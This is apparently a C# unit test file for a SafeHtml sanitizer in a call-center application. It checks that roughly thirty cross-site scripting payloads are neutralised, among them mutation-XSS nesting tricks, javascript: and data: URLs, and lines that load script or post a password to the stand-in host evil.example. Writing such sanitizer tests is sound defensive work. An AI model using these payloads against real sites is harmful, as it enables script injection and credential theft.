using CallCenter.Core.Projects.Scripts;

namespace CallCenter.Tests.Unit.Projects.Scripts;

public sealed class SafeHtmlTests
{
    [Theory]
    [InlineData("<h2>Заголовок</h2><p>Здравствуйте, <strong>{Имя}</strong>!<br>Вам <em>удобно</em> <u>говорить</u>?</p>")]
    [InlineData("<ul><li>раз</li><li>два</li></ul><ol><li>три</li></ol><blockquote>цитата</blockquote>")]
    public void Clean_AScript_StaysAsItIs(string html) => Assert.Equal(html, SafeHtml.Clean(html));

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<p>a<script src=//evil.example/x.js></script></p>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><g/onload=alert(2)//<p>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" jav\tascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"position:fixed;inset:0;width:100vw;height:100vh\">x</p>",
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<img src=https://evil.example/pixel.gif>",
        "<p onclick=alert(1) onmouseover=alert(1) id=app class=button data-save>x</p>",
        "<template><script>alert(1)</script></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Clean_WhatCouldAct_HoldsNothingThatActs(string html)
    {
        var clean = SafeHtml.Clean(html)!;
        var again = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(clean);

        Assert.All(again.Body!.QuerySelectorAll("*"), element =>
        {
            Assert.Contains(element.LocalName, (string[])["p", "br", "a", "div", "table", "tbody", "tr", "td", "ul", "li"]);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, (string[])["href", "target", "rel"]));
            Assert.DoesNotContain(":", element.GetAttribute("href") ?? "", StringComparison.Ordinal);
        });
        Assert.Equal(clean, SafeHtml.Clean(clean));
    }

    [Fact]
    public void Clean_ALink_OpensApartAndTellsNothing() => Assert.Equal(
        "<p><a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">сайт</a> <a href=\"tel:+79220000000\" target=\"_blank\" rel=\"noopener noreferrer\">т</a></p>",
        SafeHtml.Clean("<p><a href=\"https://example.org/?a=1&b=2\" target=\"_top\" rel=\"opener\">сайт</a> <a href=\"tel:+79220000000\">т</a></p>"));

    [Fact]
    public void Clean_NestedDeeperThanText_IsRefusedInsteadOfFallingOver() => Assert.Null(SafeHtml.Clean(string.Concat(Enumerable.Repeat("<div>", 60_000)) + "x"));

    [Fact]
    public void Clean_WithoutAnyText_IsEmpty() => Assert.Equal("", SafeHtml.Clean("<p><br></p>"));
}
